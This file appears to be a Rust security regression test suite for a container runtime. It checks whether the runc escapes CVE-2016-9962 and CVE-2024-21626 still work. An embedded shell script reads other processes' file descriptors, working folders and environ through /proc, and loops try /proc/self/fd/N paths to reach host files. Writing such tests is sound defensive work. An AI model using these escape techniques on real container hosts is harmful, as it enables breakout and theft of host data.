//! Descriptors of the host's that the runtime holds while it becomes the container's process.
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::time::Duration;

use anyhow::{Result, ensure};
use croft_harness::{Bundle, Host};

use super::{Talk, end, host_folder, join_pid_namespace, succeeded, untouched};

/// The attacker looks at every other process of its pid namespace, and says what it could open of it.
const LOOK: &str = r#"
while :; do
    for dir in /proc/[0-9]*; do
        pid=${dir#/proc/}
        [ "$pid" != 1 ] && [ "$pid" != $$ ] && [ -e /talk/go ] || continue
        [ "$(cat $dir/comm)" = cat ] && continue
        for fd in $dir/fd/*; do
            to=$(readlink $fd) && echo "took $fd $to" > /talk/fifo
        done
        [ -n "$(ls $dir/cwd/ 2>/dev/null)" ] && echo "took $dir/cwd" > /talk/fifo
        head -c 1 $dir/environ > /dev/null 2>&1 && echo "took $dir/environ" > /talk/fifo
        echo "looked at $pid" > /talk/fifo
        exec sleep 1000
    done
done
"#;

/// CVE-2016-9962 (runc): a process of the container traced the runtime that was joining it, or opened its descriptors through
/// /proc/PID/fd before its program was run, and so reached folders of the host.
pub fn cve_2016_9962(host: &Host) -> Result<()> {
    let mut attacker = Bundle::shell(host, LOOK)?;
    let mut talk = Talk::with(&mut attacker)?;
    attacker.started()?;
    // A second container in the same pid namespace stays the runtime for as long as it is not started.
    let mut victim = Bundle::new(host, &["sleep", "1000"])?;
    join_pid_namespace(&mut victim, &attacker)?;
    victim.create()?.success()?;
    talk.tell("go")?;
    let limit = Duration::from_secs(15);
    let line = talk.hear("", limit)?;
    if line.starts_with("took") {
        return Err(succeeded(format_args!("the attacker {line}")));
    }
    ensure!(line.starts_with("looked at"), "{line}");
    victim.start()?.success()?;
    end(victim)
}

/// CVE-2024-21626 (runc): runc had a descriptor of the host open when it entered the working folder and ran the program, and
/// with /proc/self/fd/N in their paths both were the host's.
pub fn cve_2024_21626(host: &Host) -> Result<()> {
    let folder = host_folder()?;
    let program = folder.path().join("secret");
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755))?;
    for number in 3..16 {
        // What a descriptor may lead to: the host's root itself, a folder two below it, procfs.
        for way in ["", "/../..", "/../../..", "/1/root", "/self/root"] {
            let out = format!("/proc/self/fd/{number}{way}{}", folder.path().display());
            let mut bundle = Bundle::shell(host, "cat secret")?;
            bundle.config["process"]["cwd"] = out.clone().into();
            let ran = bundle.run()?;
            if ran.stdout.contains("the host's own") {
                return Err(succeeded(format_args!("the working folder {out} is the host's")));
            }
            if number > 9 && way.starts_with("/..") {
                continue;
            }
            symlink(&out, bundle.rootfs().join("link"))?;
            bundle.config["process"]["cwd"] = "/link/made".into();
            let _ = bundle.run()?;
            untouched(folder.path())?;
        }
    }
    fs::write(&program, "#!/bin/sh\necho escaped\n")?;
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755))?;
    for number in 3..16 {
        for way in ["/1/root", "/self/root"] {
            let path = format!("/proc/self/fd/{number}{way}{}", program.display());
            let ran = Bundle::new(host, &[&path])?.run()?;
            if ran.stdout.contains("escaped") {
                return Err(succeeded(format_args!("the program {path} is the host's")));
            }
        }
    }
    Ok(())
}
